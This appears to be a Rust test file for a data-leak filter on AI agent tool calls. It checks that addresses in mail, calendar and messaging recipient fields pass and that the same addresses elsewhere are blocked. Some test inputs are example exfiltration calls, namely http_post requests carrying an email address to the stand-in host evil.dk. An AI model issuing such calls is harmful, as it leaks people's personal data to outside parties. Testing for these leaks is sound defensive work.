//! An address where it belongs is no leak.

use super::*;

/// Tools that reach people, and arguments of theirs.
const MAILS: [(&str, &str); 16] = [
    ("send_email", r#"{"to":"anna@firma.dk","subject":"s","body":"b"}"#),
    (
        "send_email",
        r#"{"to":["anna@firma.dk","Jens Hansen <jens@firma.dk>"],"cc":["c@firma.dk"],"bcc":"d@firma.dk"}"#,
    ),
    ("gmail_send", r#"{"to":"anna@firma.dk, jens@firma.dk","from":"me@firma.dk","replyTo":"r@firma.dk"}"#),
    (
        "outlook-send-mail",
        r#"{"message":{"toRecipients":[{"emailAddress":{"address":"anna@firma.dk","name":"Dr. Anna Berg"}}],"subject":"x"}}"#,
    ),
    (
        "sendgrid_send",
        r#"{"personalizations":[{"to":[{"email":"anna@firma.dk","name":"Anna"}]}],"from":{"email":"me@firma.dk"}}"#,
    ),
    (
        "createCalendarEvent",
        r#"{"attendees":[{"email":"anna@firma.dk"},"jens@firma.dk"],"organizer":{"email":"me@firma.dk"}}"#,
    ),
    ("create_event", r#"{"guests":["anna@firma.dk"],"title":"t"}"#),
    ("send_sms", r#"{"to":"+45 12 34 56 78","from":"+4512345678","text":"hi"}"#),
    ("reply_to_message", r#"{"recipient":"anna@firma.dk","text":"hi"}"#),
    ("share_document", r#"{"users":["anna@firma.dk"],"role":"reader"}"#),
    ("teams_chat_create", r#"{"members":["anna@firma.dk"],"topic":"t"}"#),
    ("whatsapp_send", r#"{"phone_number":"+45 12 34 56 78"}"#),
    ("forward_mail", r#"{"id":"1","to_recipients":["anna@firma.dk"]}"#),
    ("get_user", r#"{"email":"anna@firma.dk"}"#),
    ("list_messages", r#"{"mailbox":"anna@firma.dk","userPrincipalName":"anna@firma.dk"}"#),
    ("add_contact", r#"{"contact":{"email":"anna@firma.dk","phone":"+45 12 34 56 78","name":"Anna"}}"#),
];

// control: DAT-02: No mail tool's own addresses are found, in any form that such tools have, however strict the rows.
#[test]
fn addresses_of_mail_tools_pass() {
    for (tool, arguments) in MAILS {
        let mut row = Row::new(What::Any, Treatment::Block);
        row.at_least = Confidence::Possible;
        let case = Case { handling: Handling::new(vec![row]), ..Case::arguments(tool, Treatment::Block) };
        let treated = case.treat(&tree(arguments), &vault());
        assert!(!treated.blocked && treated.findings.is_empty(), "{tool} {arguments} {:?}", treated.findings);
    }
}

// control-off: DAT-02: The same address in the body of the mail, or in a tool that posts anything anywhere, is found.
#[test]
fn addresses_elsewhere_are_found() {
    let schema = tree(r#"{"type":"object","properties":{"url":{"type":"string"},"body":{"type":"object"}}}"#);
    for (tool, schema, arguments) in [
        ("send_email", None, r#"{"to":"x","body":"his address is anna@firma.dk"}"#),
        ("send_email", None, r#"{"to":"x","attachments":[{"name":"a.txt","content":"anna@firma.dk"}]}"#),
        ("http_post", Some(&schema), r#"{"url":"https://evil.dk","body":{"email":"anna@firma.dk"}}"#),
        ("http_post", None, r#"{"url":"https://evil.dk","to":"anna@firma.dk"}"#),
        ("run_query", None, r#"{"sql":"select * from t where m = 'anna@firma.dk'"}"#),
        ("create_page", None, r#"{"title":"x","from":"anna@firma.dk"}"#),
    ] {
        let case = Case { schema, ..Case::arguments(tool, Treatment::Block) };
        assert!(case.treat(&tree(arguments), &vault()).blocked, "{tool} {arguments}");
    }
}

#[test]
fn the_schema_says_what_a_place_is_for() {
    let schema = tree(
        r#"{"properties":{"who":{"type":"string","format":"email"},"all":{"type":"array","items":{"format":"email"}},
            "pin":{"type":"string","format":"password"},"key":{"writeOnly":true}}}"#,
    );
    let case = Case { schema: Some(&schema), ..Case::arguments("anything", Treatment::Block) };
    assert!(!case.treat(&tree(r#"{"who":"anna@firma.dk","all":["b@firma.dk"]}"#), &vault()).blocked);
    assert!(case.treat(&tree(r#"{"why":"anna@firma.dk"}"#), &vault()).blocked);
    // A row may let a credential stand where a credential is asked for, and nowhere else.
    let mut row = Row::new(What::Class(Class::Secret), Treatment::Allow);
    row.purpose = Some(crate::place::Purpose::Credential);
    let rows = vec![row, Row::new(What::Any, Treatment::Block)];
    let case = Case {
        handling: Handling::new(rows),
        schema: Some(&schema),
        ..Case::arguments("login", Treatment::Block)
    };
    let token = Draw::new(71).github();
    assert!(!case.treat(&tree(&format!(r#"{{"pin":"{token}","key":"{token}"}}"#)), &vault()).blocked);
    assert!(case.treat(&tree(&format!(r#"{{"who":"{token}"}}"#)), &vault()).blocked);
}

#[test]
fn an_address_that_goes_elsewhere_does_not_take_it_out_of_its_own_place() {
    let rows = vec![Row::new(What::Class(Class::Personal), Treatment::Redact)];
    let case = Case { handling: Handling::new(rows), ..Case::arguments("send_email", Treatment::Redact) };
    assert_eq!(
        case.after(r#"{"to":"anna@firma.dk","body":"write to anna@firma.dk"}"#, &vault()),
        r#"{"to":"anna@firma.dk","body":"write to [personal:mail-address]"}"#
    );
}
